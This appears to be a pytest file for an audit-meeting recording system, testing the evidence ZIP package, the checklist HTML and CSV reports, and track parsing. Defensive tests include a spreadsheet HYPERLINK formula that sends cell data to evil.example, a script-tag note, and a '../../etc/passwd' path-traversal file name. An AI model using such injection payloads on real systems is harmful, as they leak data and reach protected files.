"""The evidence package (over HTTP, both databases) and the checklist report (pure functions)."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

from sqlalchemy import select

from recordings.evidence import media_type, part_tracks
from recordings.report import (
    CSV_HEADERS,
    Range,
    ReportHeader,
    ReportItem,
    checklist_csv,
    checklist_html,
    clock_text,
)
from remote_check.audit.models import AuditEntry
from remote_check.checklist.models import ChecklistItem, ItemResult, Standard
from remote_check.clock import SHANGHAI
from tests.recordings.replay_world import ReplayWorld, replay_media, replay_world
from web.keys import SETTINGS

__all__ = ["replay_media", "replay_world"]  # fixtures

AT = dt.datetime(2020, 4, 10, 9, 30, tzinfo=SHANGHAI)


async def test_the_evidence_package_holds_the_recording_and_the_report(replay_world: ReplayWorld) -> None:
    w = replay_world
    browser = await w.web.signed_in("auditor")
    response = await browser.get(w.url("/evidence.zip"))
    assert response.status == 200
    assert response.headers["Content-Type"] == "application/zip"
    assert "attachment" in response.headers["Content-Disposition"]
    body = await response.read()
    prefix = f"session-{w.session_id}"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        infos = {info.filename: info for info in archive.infolist()}
        expected = {
            f"{prefix}/replay/replay.mp4",
            f"{prefix}/replay/replay.vtt",
            f"{prefix}/replay/manifest.json",
            f"{prefix}/part-1/stills/still-3.0.jpg",
            f"{prefix}/report/checklist.html",
            f"{prefix}/report/checklist.csv",
        }
        for number, names in w.part_files.items():
            expected |= {f"{prefix}/part-{number}/{name}" for name in names}
            expected |= {f"{prefix}/part-{number}/index.json", f"{prefix}/part-{number}/manifest.json"}
        assert set(infos) == expected
        for name, info in infos.items():
            on_disk = w.root / name
            if name.endswith((".mp4", ".mkv", ".jpg")):
                assert info.compress_type == zipfile.ZIP_STORED, name
            if "/report/" not in name:
                assert archive.read(name) == on_disk.read_bytes(), name
        report = archive.read(f"{prefix}/report/checklist.html").decode()
        table = list(
            csv.reader(io.StringIO(archive.read(f"{prefix}/report/checklist.csv").decode("utf-8-sig")))
        )
    assert f'id="item-{w.marked}" data-result="pass"' in report
    assert "00:02–00:05; 00:09–00:10" in report
    assert "still-3.0.jpg" in report
    assert "王专家" in report
    assert "2020-04-10 09:00" in report  # when the result was set, Guangdong time
    assert table[0] == list(CSV_HEADERS)
    rows = {row[1]: row for row in table[1:]}
    finance = w.codes[Standard.FINANCE][0]
    assert rows[finance][3] == "不通过 Fail"
    assert rows[finance][4] == "发票金额与合同不符"
    assert rows[finance][5] == "00:06–00:08"
    assert [row[0] for row in table[1:]] == sorted(
        (row[0] for row in table[1:]),
        key=["实施真实 Real implementation", "财务规范 Sound finances", "功能完整 Complete functions"].index,
    )
    async with w.web.db.factory() as session:
        entry = await session.scalar(select(AuditEntry).where(AuditEntry.action == "recording.evidence"))
    assert entry is not None
    assert entry.details["sha256"] == hashlib.sha256(body).hexdigest()
    assert entry.details["files"] == len(expected)
    assert not list((w.web.test_server.app[SETTINGS].data_dir / "tmp").glob("*"))  # the spool is cleaned


HYPERLINK_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


async def test_a_note_that_looks_like_a_formula_stays_text_in_the_packages_csv(
    replay_world: ReplayWorld,
) -> None:
    w = replay_world
    finance = w.codes[Standard.FINANCE][0]
    async with w.web.db.factory() as session, session.begin():
        item = await session.scalar(select(ChecklistItem).where(ChecklistItem.code == finance))
        assert item is not None
        item.notes = HYPERLINK_NOTE
    browser = await w.web.signed_in("auditor")
    response = await browser.get(w.url("/evidence.zip"))
    assert response.status == 200
    with zipfile.ZipFile(io.BytesIO(await response.read())) as archive:
        text = archive.read(f"session-{w.session_id}/report/checklist.csv").decode("utf-8-sig")
    rows = {row[1]: row for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert rows[finance][4] == "'" + HYPERLINK_NOTE  # shown as text, never run
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row)


async def test_a_session_without_a_recording_has_no_package(replay_world: ReplayWorld) -> None:
    w = replay_world
    async with w.web.db.factory() as session, session.begin():
        from recordings.models import RecordingPart

        for part in await session.scalars(select(RecordingPart)):
            await session.delete(part)
    import shutil

    shutil.rmtree(w.folder)
    browser = await w.web.signed_in("auditor")
    response = await browser.get(w.url("/evidence.zip"))
    assert response.status == 409
    assert "没有录像" in await response.text()
    page = await (await browser.get(w.url())).text()
    assert "该会议没有录像" in page
    assert "evidence.zip" not in page


def _item(code: str, standard: Standard, result: ItemResult, **kw: Any) -> ReportItem:
    return ReportItem(code, standard, f"标题{code}", f"Title {code}", result, **{"notes": "", **kw})


def test_the_report_groups_items_by_standard_and_escapes_what_experts_typed() -> None:
    header = ReportHeader(7, "YSQ-2019-4419-00001", "东莞<某>公司", AT, AT, "审计员")
    items = [
        _item("G1", Standard.FUNCTION, ItemResult.NOT_APPLICABLE),
        _item(
            "R1",
            Standard.IMPLEMENTATION,
            ItemResult.PASS,
            notes="<script>x</script>",
            ranges=(Range(62.4, None),),
        ),
        _item(
            "F1", Standard.FINANCE, ItemResult.FAIL, stills=("a.jpg", "b.jpg"), checked_by="王", checked_at=AT
        ),
    ]
    html = checklist_html(header, items)
    assert html.index("实施真实") < html.index("财务规范") < html.index("功能完整")
    assert "<script>x" not in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html
    assert "东莞&lt;某&gt;公司" in html
    assert "01:02–" in html
    rows = list(csv.reader(io.StringIO(checklist_csv(header, items).removeprefix("\ufeff"))))
    assert [r[1] for r in rows[1:]] == ["R1", "F1", "G1"]
    assert rows[2][6] == "a.jpg; b.jpg"
    assert rows[2][7:] == ["王", "2020-04-10 09:30"]
    assert checklist_csv(header, items).startswith("\ufeff标准 Standard,")


def test_times_on_the_recording_and_media_types() -> None:
    assert clock_text(0) == "00:00"
    assert clock_text(59.9) == "00:59"
    assert clock_text(3599) == "59:59"
    assert clock_text(3723) == "1:02:03"
    assert media_type("alice-microphone.mkv") == "audio/webm"
    assert media_type("alice-camera.mkv") == "video/webm"
    assert media_type("x.mkv", "audio") == "audio/webm"
    assert media_type("replay.mp4") == "video/mp4"
    assert media_type("replay.vtt").startswith("text/vtt")
    assert media_type("secret.key") == "application/octet-stream"


def test_a_part_without_an_index_is_read_from_its_file_names(tmp_path: Path) -> None:
    for name in ("u7-microphone.mkv", "u7-camera.mkv", "guest-3-screen.mkv"):
        (tmp_path / name).write_bytes(b"x" * 10)
    (tmp_path / "manifest.json").write_text("{}")
    tracks = part_tracks(tmp_path)  # a crash left no index.json
    assert [(t.participant, t.source, t.kind, t.size) for t in tracks] == [
        ("guest-3", "screen", "video", 10),
        ("u7", "camera", "video", 10),
        ("u7", "microphone", "audio", 10),
    ]
    assert [t.media_type for t in tracks] == ["video/webm", "video/webm", "audio/webm"]
    (tmp_path / "index.json").write_text(
        json.dumps(
            {"files": [{"name": "../../etc/passwd", "participant": "x", "source": "camera", "kind": "video"}]}
        )
    )
    assert [(t.name, t.size) for t in part_tracks(tmp_path)] == [("passwd", 0)]  # a name, never a path
